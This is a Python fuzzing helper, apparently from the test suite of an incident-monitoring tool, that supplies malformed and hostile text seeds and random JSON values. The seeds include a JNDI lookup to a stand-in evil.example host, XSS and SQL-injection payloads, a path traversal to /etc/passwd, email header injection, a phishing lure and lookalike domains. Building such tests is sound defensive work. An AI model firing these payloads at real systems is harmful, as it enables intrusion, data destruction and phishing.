"""Text that has broken programs: controls, half characters, directions, lookalikes, sentences where a name should be."""

import random

from tests.hostile.terminals import HOSTILE

SEEDS = (
    *(each for each in HOSTILE.values() if len(each) < 1_000),
    "",
    " ",
    "\0",
    "a\0b",
    "line\r\nBcc: everybody@example.org\r\n\r\nbody",
    "line\nline\u2028line\u2029line\x85line",
    "e" + "\u0301" * 400,
    "ﷺ" * 300,
    "👩‍👩‍👧‍👦" * 60,
    "日本語のとても長い名前" * 500,
    "ä" * 5_000,
    "x" * 70_000,
    "[" * 20_000,
    "(" * 2_000 + "a" * 2_000,
    "=?utf-8?q?=0D=0ABcc=3A?= =?utf-8?b?" + "A" * 500,
    "Your account is suspended. Sign in at https://evil.example/login",
    "www.evil.example",
    "evil.example/pay",
    "xn--80ak6aa92e.com",
    "аррӏе",
    "{component} {0} %s %(x)s ${jndi:ldap://evil.example/a} {{7*7}} {% for %}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "' OR 1=1; DROP TABLE incidents; --",
    "../../../../etc/passwd",
    "..%2f..%2f%00",
    "NaN",
    "null",
    "-1",
    "1e400",
    "9" * 400,
    "٣",
    "0x10",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999+14:00",
    "2026-02-30T25:61:61Z",
    "/forewarn/monitor",
    "forewarn.incident.opened.v1",
)


def text(dice: random.Random) -> str:
    """Returns one of the seeds, two of them joined, or characters drawn from the whole of Unicode (half of a surrogate pair included)."""
    turn = dice.random()
    if turn < 0.6:
        return dice.choice(SEEDS)
    if turn < 0.8:
        return dice.choice(SEEDS)[:300] + dice.choice(SEEDS)[:300]
    return "".join(chr(dice.randrange(0x110000)) for _ in range(dice.choice((1, 3, 30, 300))))


def scalar(dice: random.Random) -> object:
    """Returns what JSON has where something else was expected."""
    return dice.choice((None, True, False, 0, -1, 1e308, 2**63, -(2**63) - 1, 10**40, 0.1, [], {}, [[]], {"": {}}, text(dice), text(dice)))
